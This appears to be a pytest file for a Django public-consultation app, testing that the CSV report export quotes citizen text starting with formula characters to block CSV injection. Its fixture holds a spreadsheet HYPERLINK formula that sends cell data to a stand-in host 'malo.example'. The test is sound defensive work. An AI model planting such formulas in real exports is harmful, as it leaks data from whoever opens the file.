"""The consultation report CSV never lets a spreadsheet run citizen-written text as a formula
(CSV injection): every free-text cell starting with = + - @ is quoted."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from agora.core.models import User
from agora.participation import services
from agora.participation.models import Comment, Consultation, Forum
from tests.participation.conftest import DOCUMENT

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://malo.example/?d="&A1,"Clic aquí")'


@pytest.fixture
def closed(forum: Forum, citizen: User) -> Consultation:
    now = timezone.now()
    consultation = services.consultation_create(
        actor=None,
        system=True,
        forum=forum,
        title="Consulta cerrada",
        source_md=DOCUMENT,
        opens_at=now - timedelta(days=20),
        closes_at=now - timedelta(days=1),
    )
    services.consultation_publish(actor=None, system=True, consultation=consultation)
    version = consultation.versions.get()
    Comment.objects.create(
        consultation=consultation,
        version=version,
        author=citizen,
        author_label="@Participante",
        body=FORMULA,
        answer_outcome="no_acogido",
        answer_reason="+SUM(1,2) no procede.",
    )
    Comment.objects.create(
        consultation=consultation,
        version=version,
        author=citizen,
        author_label="Participante XYZ",
        body="Texto oculto",
        status="oculto",
        moderation_reason="-2+3 insulto",
    )
    Comment.objects.create(
        consultation=consultation,
        version=version,
        author=citizen,
        author_label="Participante XYZ",
        body="Comentario normal",
    )
    return consultation


def _rows(consultation: Consultation) -> list[list[str]]:
    response = Client().get(
        reverse("participation:consultation_report_csv", args=[consultation.slug])
    )
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(body)))


def test_formula_in_comment_body_is_quoted(closed: Consultation) -> None:
    rows = _rows(closed)
    first = rows[1]
    assert first[6] == "'" + FORMULA
    assert first[3] == "'@Participante"
    assert first[8] == "'+SUM(1,2) no procede."


def test_no_cell_starts_with_a_formula_character(closed: Consultation) -> None:
    for row in _rows(closed)[1:]:
        for cell in row:
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}, cell


def test_plain_text_is_unchanged(closed: Consultation) -> None:
    rows = _rows(closed)
    normal = next(r for r in rows if "Comentario normal" in r)
    assert normal[6] == "Comentario normal"
    assert normal[3] == "Participante XYZ"


def test_web_report_shows_the_body_as_written(closed: Consultation) -> None:
    """Only the CSV is quoted: the web page shows the text as the citizen wrote it (escaped)."""
    page = Client().get(reverse("participation:consultation_report", args=[closed.slug]))
    assert "=HYPERLINK(" in page.content.decode()
    assert "'=HYPERLINK(" not in page.content.decode()
